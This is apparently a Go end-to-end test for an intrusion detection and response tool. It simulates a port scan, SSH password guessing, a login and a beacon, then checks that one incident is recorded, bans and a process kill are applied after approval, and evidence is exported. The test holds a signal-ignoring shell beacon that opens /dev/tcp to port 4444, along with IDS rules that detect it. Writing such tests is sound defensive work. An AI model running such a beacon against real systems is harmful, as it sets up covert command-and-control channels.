package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	"picket/actions/measure"
	"picket/capture/nstest"
	"picket/incidents"
	"picket/outputs/web"
)

// intrusionRules see what comes over the wire: many connections from one address, and a beacon on its way out.
const intrusionRules = `alert tcp any any -> any any (msg:"many ports tried"; flags:S; threshold:type both,track by_src,count 20,seconds 60; classtype:attempted-recon; metadata:mitre_tactic_id TA0043, mitre_technique_id T1595; sid:10;)
alert tcp any any -> any 4444 (msg:"beacon of a known kit"; flow:established,to_server; content:"BEACON id="; classtype:command-and-control; metadata:mitre_tactic_id TA0011, mitre_technique_id T1071; sid:11;)
`

// intrusionConfig: the jail only tells; the policies act.
const intrusionConfig = `
capture: {passive: {interfaces: [toa, tob]}}
incidents: {record: 1s}
logs: {adjust: {sshd: {logs: [LOG], observe: yes, limits: {failures: 3}}}}
notifications:
  group-wait: 1s
  receivers: {hook: {webhook: {url: "http://127.0.0.1:8099/hook"}}}
policies:
  list:
    - name: whoever got in
      match: {kind: [login], case: {stages: 2}}
      default: [{do: ban, for: 1h}]
    - name: commanded
      match: {kind: [alert], stage: command}
      default:
        - {do: ban, for: 1h}
        - {do: notify, with: {receiver: hook}}
        - {do: top}
        - {do: sockets}
        - {do: kill-tree, approval: yes, with: {grace: 200ms}}
`

// beaconScript is what the intruder leaves behind: it minds no signal that it can ignore.
const beaconScript = `trap "" TERM HUP PIPE; while :; do exec 3<>/dev/tcp/` + nstest.B4 + `/4444; for i in 1 2 3 4 5 6 7 8 9; do echo BEACON id=7 >&3; sleep 0.2; done; done`

// TestIntrusion: a scan, guessed passwords, a login, a process, a beacon. They are one incident with packets, lines and
// the process; what the policies want is done, part of it after approval, is proven, and is lifted again.
func TestIntrusion(t *testing.T) {
	if testing.Short() {
		t.Skip("sshd answers a wrong password only after two seconds")
	}
	t.Parallel()
	g := nstest.NewGateway(t)
	a := &intrusion{ssh: newSSHHost(t, g.GW)}
	a.station = prepare(t, g, strings.ReplaceAll(intrusionConfig, "LOG", a.ssh.log))
	a.write("test.rules", intrusionRules)
	a.hook()
	go nstest.Echo(g.B.Listen(t, "tcp", nstest.B4+":4444"))
	a.start()
	t.Cleanup(func() {
		if t.Failed() {
			shown, _ := a.picket("incidents", "show", "1")
			listed, _ := a.picket("measures")
			log, _ := os.ReadFile(a.ssh.log)
			t.Logf("%s\n%s\n%s", shown, listed, log)
		}
	})

	a.breakIn()
	c := a.wholeCase()
	a.lifts(c, a.measuresDone(c))
	a.exported(c)
	if testing.Verbose() {
		a.narrate(c)
	}
	a.stop(syscall.SIGTERM)
}

// narrate prints what an operator sees of it.
func (a *intrusion) narrate(c incidents.Incident) {
	id := fmt.Sprint(c.ID)
	for _, words := range [][]string{{"incidents"}, {"incidents", "show", id}, {"measures", "--incident", id}, {"why", nstest.A4}, {"policy", "test", id}} {
		out, _ := a.picket(words...)
		a.t.Logf("$ picket %s\n%s", strings.Join(words, " "), out)
	}
}

type intrusion struct {
	*station
	ssh    *sshHost
	mu     sync.Mutex
	hooked []string // bodies that the webhook got
}

// hook receives notifications on the attacked host itself.
func (a *intrusion) hook() {
	srv := &http.Server{Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		a.mu.Lock()
		a.hooked = append(a.hooked, string(body))
		a.mu.Unlock()
	})}
	go srv.Serve(a.net.GW.Listen(a.t, "tcp", "127.0.0.1:8099"))
	a.t.Cleanup(func() { srv.Close() })
}

// breakIn is the intruder's part.
func (a *intrusion) breakIn() {
	a.t.Helper()
	for port := range 30 {
		if c, err := a.net.A.Dial(a.t, "tcp", fmt.Sprintf("%s:%d", nstest.GatewayA4, 1000+port)); err == nil {
			c.Close()
		}
	}
	a.until("the scan is an incident", func() bool { return len(a.cases()) == 1 })
	var guesses sync.WaitGroup
	for range 3 {
		guesses.Go(func() { a.ssh.fail(a.net.A, nstest.GatewayA4) })
	}
	guesses.Wait()
	a.until("the guesses are in the incident", func() bool { return len(a.cases()[0].Stages) == 2 })
	a.net.A.Do(a.t, func() {
		start := "setsid bash -c '" + beaconScript + "' >/dev/null 2>&1 </dev/null & sleep 3"
		if out, err := a.ssh.ssh(sshPassword, nstest.GatewayA4, start).CombinedOutput(); err != nil {
			a.t.Fatalf("log in: %v\n%s", err, out)
		}
	})
}

func (s *station) cases() (list []incidents.Incident) {
	s.t.Helper()
	var answer web.IncidentList
	if err := json.Unmarshal([]byte(s.must("incidents", "list", "--json")), &answer); err != nil {
		s.t.Fatal(err)
	}
	return answer.Incidents
}

// wholeCase wants one incident that holds the chain and all kinds of evidence.
func (a *intrusion) wholeCase() incidents.Incident {
	a.t.Helper()
	a.until("the beacon is in the incident", func() bool { return len(a.cases()[0].Stages) == 5 })
	list := a.cases()
	if len(list) != 1 {
		a.t.Errorf("%d incidents, want one:\n%s", len(list), a.must("incidents"))
	}
	c := list[0]
	if want := "[recon access foothold execution command]"; fmt.Sprint(c.Stages) != want {
		a.t.Errorf("stages %v, want %s", c.Stages, want)
	}
	if want := []string{nstest.A4, nstest.B4}; fmt.Sprint(c.Attackers) != fmt.Sprint(want) {
		a.t.Errorf("attackers %v, want %v", c.Attackers, want)
	}
	for _, want := range []string{"mitre:T1595", "mitre:TA0043", "mitre:T1071", "mitre:TA0011"} {
		if !slices.Contains(c.Tags, want) {
			a.t.Errorf("tags %v lack %s", c.Tags, want)
		}
	}
	if len(c.Communities) == 0 || !strings.HasPrefix(c.Communities[0], "1:") {
		a.t.Errorf("community ids %v", c.Communities)
	}
	if c.Severity < incidents.High || len(c.Processes) != 1 || c.Processes[0].Name != "bash" || c.Processes[0].User == "root" {
		a.t.Errorf("severity %s, processes %+v", c.Severity, c.Processes)
	}
	a.until("all kinds of evidence", func() bool {
		var f incidents.File
		if err := json.Unmarshal([]byte(a.must("incidents", "show", fmt.Sprint(c.ID), "--json")), &f); err != nil {
			a.t.Fatal(err)
		}
		kinds := map[string]bool{}
		for _, e := range f.Evidence {
			kinds[e.Kind] = true
			kinds["past"] = kinds["past"] || strings.Contains(e.Name, "before the alert")
		}
		return kinds["packet"] && kinds["line"] && kinds["process"] && kinds["output"] && kinds["past"]
	})
	return c
}

// wait waits until a measure of a case has come to a state.
func (a *intrusion) wait(c incidents.Incident, name, target string, state measure.State) (m measure.Measure) {
	a.t.Helper()
	a.until(fmt.Sprintf("%s %s is %s", name, target, state), func() bool {
		var list []measure.Measure
		if err := json.Unmarshal([]byte(a.must("measures", "--incident", fmt.Sprint(c.ID), "--name", name, "--json")), &list); err != nil {
			a.t.Fatal(err)
		}
		for _, m = range list {
			if m.State == state && strings.Contains(m.Target, target) {
				return true
			}
		}
		return false
	})
	return m
}

// measuresDone wants every measure done and proven, the two that need it after approval, and returns those that last.
func (a *intrusion) measuresDone(c incidents.Incident) (lasting []measure.Measure) {
	a.t.Helper()
	kill := a.wait(c, "kill-tree", "bash", measure.PendingApproval)
	pid := c.Processes[0].PID
	if !running(pid) {
		a.t.Error("the process was killed before anybody had approved it")
	}
	// Somebody is, or was, logged in from there: that is asked about, since it may be an operator.
	intruder := a.wait(c, "ban", nstest.A4, measure.PendingApproval)
	why := a.must("why", nstest.A4)
	for _, want := range []string{
		fmt.Sprintf("incident  %d, open", c.ID), fmt.Sprintf("picket approve %d", intruder.ID), fmt.Sprintf("picket approve %d", kill.ID),
	} {
		if !strings.Contains(why, want) {
			a.t.Errorf("picket why does not tell %q:\n%s", want, why)
		}
	}
	a.must("approve", fmt.Sprint(kill.ID), fmt.Sprint(intruder.ID))
	for _, m := range []measure.Measure{a.wait(c, "kill-tree", "bash", measure.Complete), a.wait(c, "top", "", measure.Complete), a.wait(c, "sockets", "", measure.Complete), a.wait(c, "notify", "", measure.Complete)} {
		if m.Proof == "" {
			a.t.Errorf("%s has no proof", m.Sentence())
		}
	}
	if running(pid) {
		a.t.Error("the process is still there")
	}
	if m := a.wait(c, "kill-tree", "", measure.Complete); !strings.Contains(m.Output.Text, "SIGKILL") {
		a.t.Errorf("it has ended by a signal that it ignores:\n%s", m.Output.Text)
	}
	for _, who := range []string{nstest.A4, nstest.B4} {
		m := a.wait(c, "ban", who, measure.Active)
		if m.Proof == "" || !a.holds(who) {
			a.t.Errorf("%s: proof %q, kernel:\n%s", m.Sentence(), m.Proof, a.kernel("list", "ruleset"))
		}
		lasting = append(lasting, m)
	}
	a.until("the webhook was told", func() bool {
		a.mu.Lock()
		defer a.mu.Unlock()
		return strings.Contains(strings.Join(a.hooked, "\n"), "beacon of a known kit")
	})
	return lasting
}

// running tells whether a process is there and no zombie.
func running(pid int) bool {
	text, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	_, state, _ := strings.Cut(string(text), ") ")
	return err == nil && !strings.HasPrefix(state, "Z")
}

// lifts undoes what lasts, and wants the kernel to hold nothing of it.
func (a *intrusion) lifts(c incidents.Incident, lasting []measure.Measure) {
	a.t.Helper()
	if conn, err := a.net.A.Dial(a.t, "tcp", net.JoinHostPort(nstest.GatewayA4, "22")); err == nil {
		conn.Close()
		a.t.Error("the intruder can still connect")
	}
	for _, m := range lasting {
		a.must("lift", fmt.Sprint(m.ID))
		a.wait(c, "ban", m.Target, measure.Lifted)
	}
	for _, who := range []string{nstest.A4, nstest.B4} {
		if a.holds(who) {
			a.t.Errorf("the kernel still holds %s:\n%s", who, a.kernel("list", "ruleset"))
		}
	}
	conn, err := a.net.A.Dial(a.t, "tcp", net.JoinHostPort(nstest.GatewayA4, "22"))
	if err != nil {
		a.t.Fatalf("after lifting: %v", err)
	}
	conn.Close()
}

// exported wants the archive of the case to hold what an analyst needs: the whole story in JSON and text, the process, the
// guesses' lines, the beacon's words, and its connection in a pcap that other programs read, from the handshake on.
func (a *intrusion) exported(c incidents.Incident) {
	a.t.Helper()
	name := filepath.Join(a.dir, "case.zip")
	a.must("incidents", "export", fmt.Sprint(c.ID), "-o", name)
	z, err := zip.OpenReader(name)
	if err != nil {
		a.t.Fatal(err)
	}
	defer z.Close()
	files := map[string][]byte{}
	for _, f := range z.File {
		files[strings.TrimPrefix(f.Name, fmt.Sprintf("incident-%d/", c.ID))] = unzipped(a.t, f)
	}
	var told incidents.Incident
	var timeline []incidents.Entry
	if err := errors.Join(json.Unmarshal(files["incident.json"], &told), json.Unmarshal(files["timeline.json"], &timeline)); err != nil {
		a.t.Fatal(err)
	}
	if told.ID != c.ID || fmt.Sprint(told.Stages) != fmt.Sprint(c.Stages) || len(timeline) < 8 {
		a.t.Errorf("incident.json and timeline.json: %+v, %d entries", told, len(timeline))
	}
	for _, words := range []string{"many ports tried", "jail sshd", "login by ssh", "process of a remote session", "beacon of a known kit", "kill-tree", "lifted by root"} {
		if !bytes.Contains(files["timeline.txt"], []byte(words)) {
			a.t.Errorf("timeline.txt does not tell of %q:\n%s", words, files["timeline.txt"])
		}
	}
	has := func(kind, words string) bool {
		for name, text := range files {
			if strings.HasPrefix(name, "evidence/") && strings.Contains(name, "-"+kind+"-") && bytes.Contains(text, []byte(words)) {
				return true
			}
		}
		return false
	}
	for kind, words := range map[string]string{"line": "Failed password", "process": "bash", "stream": "BEACON id=7", "pcap": "BEACON id=7", "output": "PID"} {
		if !has(kind, words) {
			a.t.Errorf("no evidence of kind %s has %q: %v", kind, words, slices.Sorted(maps.Keys(files)))
		}
	}
	a.readElsewhere(files)
}

// readElsewhere wants tcpdump to see the beacon's connection in one of the recordings, from its handshake on: the packets
// before the alert are there, too.
func (a *intrusion) readElsewhere(files map[string][]byte) {
	a.t.Helper()
	tool, err := exec.LookPath("tcpdump")
	if err != nil {
		a.t.Log("tcpdump is not installed: no other program has read the recordings")
		return
	}
	whole := false
	for name, text := range files {
		if !strings.HasSuffix(name, ".pcap") {
			continue
		}
		a.write("flow.pcap", string(text))
		out, err := exec.Command(tool, "-n", "-A", "-r", filepath.Join(a.dir, "flow.pcap")).CombinedOutput()
		if err != nil {
			a.t.Errorf("tcpdump does not read %s: %v\n%s", name, err, out)
		}
		opened := strings.Contains(string(out), nstest.B4+".4444: Flags [S]")
		whole = whole || opened && strings.Contains(string(out), "BEACON id=7")
	}
	if !whole {
		a.t.Errorf("no recording has the beacon's handshake and its words: %v", slices.Sorted(maps.Keys(files)))
	}
}

func unzipped(t *testing.T, f *zip.File) []byte {
	t.Helper()
	r, err := f.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	text, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return text
}
